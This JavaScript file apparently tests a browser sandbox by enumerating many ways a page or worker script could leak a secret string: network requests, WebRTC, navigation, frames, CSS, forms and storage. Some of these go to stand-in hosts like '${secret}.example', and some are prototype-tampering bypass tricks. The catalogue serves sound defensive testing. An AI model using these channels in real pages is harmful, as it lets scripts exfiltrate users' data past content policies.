// Every way in which a script could get words out of a page or a worker, as far as anybody here knows one. Each function
// runs in the page or the worker itself. It tries, and gives true where it had what it wanted; what arrives at a server,
// where the page stands, and what the browser's own log says, are looked at beside that.

/** The word that must not be heard anywhere. */
export const SECRET = "itk3secret";

/** Of scripts in general. @param {string} address that ends with a slash @param {string} secret */
export function waysOfScripts(address, secret) {
  const to = (name) => `${address}${name}?${secret}`;
  const socket = address.replace(/^http/, "ws");
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  /** A worker made of a text, and what it says. */
  const ofText = (text) =>
    new Promise((done) => {
      const worker = new Worker(blob(text));
      worker.onmessage = ({ data }) => done(data);
      worker.onerror = () => done(false);
    });
  return {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }).then(() => true),
    "fetch, kept alive": () =>
      fetch(to("keepalive"), { mode: "no-cors", method: "POST", body: secret, keepalive: true }).then(() => true),
    fetchLater: () => {
      fetchLater(to("later"), { activateAfter: 0 });
    },
    XMLHttpRequest: () =>
      new Promise((done) => {
        const request = Object.assign(new XMLHttpRequest(), { onload: () => done(true), onerror: () => done(false) });
        request.open("GET", to("xhr"));
        request.send();
      }),
    WebSocket: () =>
      new Promise((done) =>
        Object.assign(new WebSocket(`${socket}socket?${secret}`), {
          onopen: () => done(true),
          onerror: () => done(false),
        }),
      ),
    WebSocketStream: () => new WebSocketStream(`${socket}stream?${secret}`).opened.then(() => true),
    WebTransport: () =>
      new WebTransport(`${address.replace("http:", "https:")}transport?${secret}`).ready.then(() => true),
    EventSource: () =>
      new Promise((done) => {
        const source = Object.assign(new EventSource(to("events")), {
          onopen: () => done(true),
          onerror: () => {
            source.close();
            done(false);
          },
        });
      }),
    import: () => import(to("import.js")).then(() => true),
    font: () => new FontFace("way", `url(${to("font")})`).load().then(() => true),
    "cache of requests": () =>
      caches
        .open("way")
        .then((cache) => cache.add(to("cache")))
        .then(() => true),
    "worker by address": () =>
      new Promise((done) =>
        Object.assign(new Worker(to("worker.js")), { onmessage: () => done(true), onerror: () => done(false) }),
      ),
    "worker of a text": () =>
      ofText(`fetch("${to("nested")}", { mode: "no-cors" }).then(() => postMessage(true), () => postMessage(false))`),
    "worker of a text that imports": () =>
      ofText(`try { importScripts("${to("nested.js")}"); postMessage(true) } catch { postMessage(false) }`),
    "worker from data": () =>
      new Promise((done) =>
        Object.assign(new Worker(`data:text/javascript,fetch("${to("data")}")`), { onerror: () => done(false) }),
      ),
    "service worker": () => navigator.serviceWorker.register(to("service.js")).then(() => true),
    BroadcastChannel: () => {
      new BroadcastChannel("way").postMessage(secret);
      return true;
    },
    "database, for another page of this server": () => {
      indexedDB.open(secret);
      return true;
    },
    notification: () => {
      new Notification("way", { icon: to("notification") });
      return true;
    },
    importScripts: () => {
      importScripts(to("scripts.js"));
      return true;
    },
  };
}

/** Of scripts of a page. @param {string} address @param {string} secret */
export function waysOfPages(address, secret) {
  const to = (name) => `${address}${name}?${secret}`;
  const host = `//${secret}.example/`;
  const made = (name, attributes = {}, parent = "body") => {
    const element = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
    (parent === "head" || parent === "body" ? document[parent] : parent)?.append(element);
    return element;
  };
  const put = (name, attributes, parent) => () => {
    made(name, attributes, parent);
  };
  const link = (rel, more = {}) => put("link", { rel, href: to(rel), ...more }, "head");
  const styled = (text) => () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets.push(sheet);
    made("p", { class: "way" }).textContent = "way";
  };
  const image = (size) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="${to(size)}"/></svg>`;
  const click = (attributes) => made("a", { href: to("click"), ...attributes }, null);
  const clicked = (type) => (element) => {
    element.dispatchEvent(
      new MouseEvent(type, {
        bubbles: true,
        cancelable: true,
        composed: true,
        button: type === "auxclick" ? 1 : 0,
        ctrlKey: type === "auxclick",
      }),
    );
  };
  /** Is there another realm, with what was taken away from this one? */
  const realm = () => Boolean(window[0]?.RTCPeerConnection);
  const parsed = (put) => () => {
    const host = made("div");
    const outcome = put(
      host,
      `<iframe></iframe><img src="${to("parsed")}"><link rel="preconnect" href="${to("parsed")}"><meta http-equiv="refresh" content="0;url=${to("parsed")}">`,
    );
    if (outcome?.nodeType) host.append(document.adoptNode(outcome));
    return realm() || host.querySelector("iframe") !== null;
  };
  const post = (attributes) => () => {
    const form = made("form", { action: to("form"), method: "post", ...attributes });
    form.append(made("input", { name: "way", value: secret }));
    form.submit();
  };
  const peer = (Connection) => {
    const connection = new Connection({ iceServers: [{ urls: `stun:${secret}.example` }] });
    connection.createDataChannel("way");
    return connection
      .createOffer()
      .then((offer) => connection.setLocalDescription(offer))
      .then(() => true);
  };
  return {
    RTCPeerConnection: () => peer(RTCPeerConnection),
    webkitRTCPeerConnection: () => peer(webkitRTCPeerConnection),
    beacon: () => {
      navigator.sendBeacon(to("beacon"), secret);
    },
    image: put("img", { src: to("image") }),
    "image of a set": put("img", { srcset: `${to("srcset")} 1x` }),
    "image, made": () => {
      new Image().src = to("made");
    },
    "image, attributed": () => {
      Object.assign(new Image(), { attributionSrc: to("attribution"), src: "data:," });
    },
    "image within a picture": () => {
      const picture = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const inner = document.createElementNS("http://www.w3.org/2000/svg", "image");
      inner.setAttribute("href", to("svg"));
      picture.append(inner);
      document.body.append(picture);
    },
    "image from data": () => {
      new Image().src = `data:image/svg+xml,${encodeURIComponent(image("data"))}`;
    },
    "input image": put("input", { type: "image", src: to("input") }),
    video: put("video", { src: to("video"), poster: to("poster"), autoplay: "" }),
    audio: put("audio", { src: to("audio"), autoplay: "" }),
    track: () => made("track", { src: to("track"), default: "" }, made("video")),
    "CSS, image": styled(
      `.way { background: url("${to("css")}"); cursor: url("${to("cursor")}"), auto; mask: url("${to("mask")}"); list-style-image: url("${to("list")}"); content: url("${to("content")}"); filter: url("${to("filter")}#f") }`,
    ),
    "CSS, image of a set": styled(`.way::before { content: image-set(url("${to("set")}") 1x) }`),
    "CSS, font": styled(`@font-face { font-family: way; src: url("${to("font")}") } .way { font-family: way }`),
    "CSS, import": () => {
      made("style", {}, "head").textContent = `@import url("${to("import")}");`;
    },
    "CSS, in an attribute": put("p", { style: `background: url("${to("attribute")}")` }),
    "CSS, by property": () => {
      made("p").style.backgroundImage = `url("${to("property")}")`;
    },
    worklet: () => CSS.paintWorklet.addModule(to("worklet.js")).then(() => true),
    "worklet for sound": () => new AudioContext().audioWorklet.addModule(to("sound.js")).then(() => true),
    script: put("script", { src: to("script.js") }, "head"),
    "script, by its hash": () => {
      const hash = document
        .querySelector("meta[http-equiv=Content-Security-Policy]")
        .content.match(/script-src '(sha256-[^']+)'/)?.[1];
      if (hash) made("script", { src: to("hashed.js"), integrity: hash, crossorigin: "" }, "head");
    },
    "script of a picture": () => {
      const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
      script.setAttribute("href", to("picture.js"));
      document.head.append(script);
    },
    "speculation rules": () => {
      made("script", { type: "speculationrules" }, "head").textContent = JSON.stringify({
        prefetch: [{ urls: [to("speculation")], eagerness: "immediate" }],
      });
    },
    ...Object.fromEntries(
      [
        "prefetch",
        "modulepreload",
        "stylesheet",
        "icon",
        "manifest",
        "prerender",
        "dns-prefetch",
        "preconnect",
        "pingback",
      ].map((rel) => [`link, ${rel}`, link(rel)]),
    ),
    ...Object.fromEntries(
      ["script", "style", "image", "font", "fetch", "document"].map((as) => [
        `link, preload ${as}`,
        link("preload", { as }),
      ]),
    ),
    "link, name of a host": link("dns-prefetch", { href: host }),
    "link, socket to a host": link("preconnect", { href: host }),
    "link of the page, altered": () => {
      for (const one of document.querySelectorAll("link")) Object.assign(one, { rel: "preconnect", href: host });
    },
    "link, by its name in XML": () => {
      document.head.append(
        Object.assign(document.createElementNS("http://www.w3.org/1999/xhtml", "x:LINK".toLowerCase()), {
          rel: "preconnect",
          href: host,
        }),
      );
    },
    "anchor whose host is looked up": () => {
      made("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, "head");
      made("a", { href: host }).textContent = "way";
    },
    "anchor whose host is looked up, without the tag": () => {
      made("a", { href: host }).textContent = "way";
    },
    frame: () => {
      made("iframe", { src: to("frame") });
      return realm();
    },
    "frame that is empty": () => {
      made("iframe");
      return realm();
    },
    "frame of a text": () => {
      made("iframe", { srcdoc: `<img src="${to("srcdoc")}">` });
      return realm();
    },
    "frame of a script": () => {
      made("iframe", { src: "javascript:''" });
      return realm();
    },
    "frame, by its name in XML": () => {
      document.body.append(document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"));
      return realm();
    },
    "frame of another document": () => {
      document.body.append(document.implementation.createHTMLDocument("").createElement("iframe"));
      return realm();
    },
    "frame as the root of a document": () => {
      document.body.append(
        document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement,
      );
      return realm();
    },
    "frame of a class": () => {
      class Way extends HTMLIFrameElement {}
      customElements.define("way-out", Way, { extends: "iframe" });
      document.body.append(new Way());
      return realm();
    },
    "frame whose name changes while it is read": () => {
      let times = 0;
      document.body.append(document.createElement({ toString: () => ((times += 1) === 1 ? "p" : "iframe") }));
      return realm();
    },
    "frame, with what scripts put in place of the language's own": () => {
      Set.prototype.has = () => false;
      String.prototype.toLowerCase = () => "p";
      made("iframe");
      return realm();
    },
    "frame of a style sheet's language": () => {
      const style = new DOMParser().parseFromString('<x xmlns="http://www.w3.org/1999/XSL/Transform"/>', "text/xml");
      const transformer = new XSLTProcessor();
      transformer.importStylesheet(style);
      return true;
    },
    frameset: () => {
      made("frame");
      return realm();
    },
    object: () => {
      made("object", { data: to("object") });
      return realm();
    },
    "object that is empty": () => {
      made("object", { data: "about:blank" });
      return realm();
    },
    embed: () => {
      made("embed", { src: to("embed") });
      return realm();
    },
    "embed that is empty": () => {
      made("embed", { src: "about:blank" });
      return realm();
    },
    fencedframe: () => {
      made("fencedframe", { src: to("fenced") });
      return realm();
    },
    "parser, innerHTML": parsed((host, html) => {
      host.innerHTML = html;
      return null;
    }),
    "parser, innerHTML of a shadow": parsed((host, html) => {
      const root = host.attachShadow({ mode: "open" });
      root.innerHTML = html;
      return root.firstChild;
    }),
    "parser, outerHTML": parsed((host, html) => {
      const inner = made("p", {}, host);
      inner.outerHTML = html;
      return null;
    }),
    "parser, insertAdjacentHTML": parsed((host, html) => {
      host.insertAdjacentHTML("beforeend", html);
      return null;
    }),
    "parser, setHTMLUnsafe": parsed((host, html) => {
      host.setHTMLUnsafe(html);
      return null;
    }),
    "parser, setHTML": parsed((host, html) => {
      host.setHTML(html, { sanitizer: {} });
      return null;
    }),
    "parser, fragment": parsed((_, html) => document.createRange().createContextualFragment(html)),
    "parser, DOMParser": parsed((_, html) => new DOMParser().parseFromString(html, "text/html").body.firstChild),
    "parser, parseHTMLUnsafe": parsed((_, html) => Document.parseHTMLUnsafe(html).body.firstChild),
    "parser, command": parsed((host, html) => {
      host.contentEditable = "true";
      host.focus();
      document.execCommand("insertHTML", false, html);
      return null;
    }),
    "parser, document.write": parsed((_, html) => {
      document.write(html);
      return null;
    }),
    "parser, document.write of a new document": parsed((_, html) => {
      const other = document.implementation.createHTMLDocument("");
      other.open();
      other.write(html);
      return other.querySelector("iframe");
    }),
    form: post({}),
    "form by get": post({ method: "get" }),
    "form in a new window": post({ target: "_blank" }),
    "form, asked": () => {
      made("form", { action: to("asked"), target: "_blank" }).requestSubmit();
    },
    "form, its button": () => {
      const form = made("form");
      made("button", { formaction: to("button"), formtarget: "_blank" }, form).click();
    },
    "window.open": () => {
      window.open(to("open"));
    },
    "window.open here": () => {
      window.open(to("open"), "_self");
    },
    "window.open, empty": () => Boolean(window.open("").RTCPeerConnection),
    "document.open": () => {
      document.open(to("document"), "_blank", "noopener");
    },
    "picture in picture": () => documentPictureInPicture.requestWindow().then(() => true),
    "location.href": () => {
      location.href = to("href");
    },
    "location.assign": () => {
      location.assign(to("assign"));
    },
    "location.replace": () => {
      location.replace(to("replace"));
    },
    "location.search": () => {
      location.search = secret;
    },
    "location.pathname": () => {
      location.pathname = `/${secret}`;
    },
    "location.host": () => {
      location.host = `${secret}.example`;
    },
    "location, a frame's name": () => {
      window.top.location = to("top");
    },
    "location, mail": () => {
      location.href = `mailto:way@${secret}.example?body=${secret}`;
    },
    "location, another program": () => {
      location.href = `way:${secret}`;
    },
    "location, script": () => {
      location.href = `javascript:fetch("${to("script")}")`;
    },
    "location, data": () => {
      location.href = `data:text/html,<img src="${to("data")}">`;
    },
    "location, blob": () => {
      location.href = URL.createObjectURL(
        new Blob([`<img src="${to("blob")}"><script>new RTCPeerConnection()</script>`], { type: "text/html" }),
      );
    },
    "meta refresh": put("meta", { "http-equiv": "refresh", content: `0;url=${to("refresh")}` }, "head"),
    "meta report": put(
      "meta",
      { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${to("report")}` },
      "head",
    ),
    "history.pushState, then reload": () => {
      history.pushState(null, "", `?${secret}`);
      location.reload();
      return true;
    },
    "history.replaceState": () => {
      history.replaceState(null, "", `?${secret}`);
      return true;
    },
    "history.back": () => {
      history.back();
      return true;
    },
    "the hash, then reload": () => {
      location.hash = secret;
      location.reload();
    },
    "Navigation API": () => {
      navigation.navigate(to("navigation"));
    },
    "Navigation API, intercepted": () => {
      navigation.addEventListener("navigate", (event) => event.intercept({ handler: () => {} }), { once: true });
      location.search = secret;
    },
    "Navigation API, its listeners stopped": () => {
      navigation.addEventListener("navigate", (event) => event.stopImmediatePropagation(), {
        capture: true,
        once: true,
      });
      location.href = to("stopped");
    },
    "Navigation API, with what scripts put in place of the language's own": () => {
      Event.prototype.preventDefault = () => {};
      String.prototype.startsWith = () => true;
      Function.prototype.apply = Function.prototype.call = Reflect.apply = () => true;
      location.href = to("replaced");
    },
    "link clicked by a script": () => {
      click({}).click();
    },
    "link clicked by a script, on the page": () => {
      document.body.appendChild(click({})).click();
    },
    "link in a new window": () => {
      click({ target: "_blank" }).click();
    },
    "link in a named window": () => {
      click({ target: "way" }).click();
    },
    "link to a file": () => {
      click({ download: "way" }).click();
    },
    "link that pings": () => {
      click({ href: "#way", ping: to("ping") }).click();
    },
    "link, its event": () => {
      clicked("click")(click({ target: "_blank" }));
    },
    "link, its event by the middle button": () => {
      clicked("auxclick")(document.body.appendChild(click({ target: "_blank" })));
    },
    "link, its key": () => {
      const one = document.body.appendChild(click({ target: "_blank" }));
      one.focus();
      one.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", code: "Enter", keyCode: 13, bubbles: true }));
    },
    "link around a word": () => {
      const one = click({ target: "_blank" });
      one.append("way");
      one.firstChild.dispatchEvent(new MouseEvent("click", { bubbles: true }));
    },
    "link around an element": () => {
      made("span", {}, click({ target: "_blank" })).click();
    },
    "link around a button": () => {
      made("button", {}, click({ target: "_blank" })).click();
    },
    "link around what is slotted": () => {
      const host = made("div");
      made("slot", {}, host.attachShadow({ mode: "closed" }).appendChild(click({ target: "_blank" })));
      made("span", {}, host).click();
    },
    "link of a picture": () => {
      const one = document.createElementNS("http://www.w3.org/2000/svg", "a");
      one.setAttribute("href", to("picture"));
      one.setAttribute("target", "_blank");
      one.dispatchEvent(new MouseEvent("click"));
    },
    area: () => {
      made("area", { href: to("area"), target: "_blank" }).click();
    },
    cookie: () => {
      document.cookie = `way=${secret}`;
      return !Object.hasOwn(document, "cookie");
    },
    "cookie store": () => cookieStore.set("way", secret).then(() => true),
    "storage, for another page of this server": () => {
      localStorage.setItem("way", secret);
      return true;
    },
    "whoever opened the page": () => {
      opener.postMessage(secret, "*");
      return true;
    },
    "shared worker": () => {
      new SharedWorker(URL.createObjectURL(new Blob([`fetch("${to("shared")}")`])));
      return true;
    },
    speech: () => {
      speechSynthesis.speak(new SpeechSynthesisUtterance(secret));
      return true;
    },
    payment: () =>
      new PaymentRequest([{ supportedMethods: to("payment").replace("http:", "https:") }], {
        total: { label: "way", amount: { currency: "GBP", value: "1" } },
      })
        .canMakePayment()
        .then(() => true),
    presentation: () => {
      new PresentationRequest([to("presentation")]).start();
      return true;
    },
    "credentials of a host": () => {
      navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8), rpId: `${secret}.example` } });
      return true;
    },
    identity: () => {
      navigator.credentials.get({ identity: { providers: [{ configURL: to("identity"), clientId: secret }] } });
      return true;
    },
    "media session": () => {
      navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: to("artwork") }] });
      return true;
    },
    auction: () => {
      navigator.runAdAuction({ seller: address, decisionLogicURL: to("auction") });
      return true;
    },
    share: () => {
      navigator.share({ text: secret });
      return true;
    },
    "protocol handler": () => {
      navigator.registerProtocolHandler("web+way", `${to("handler")}%s`);
      return true;
    },
  };
}
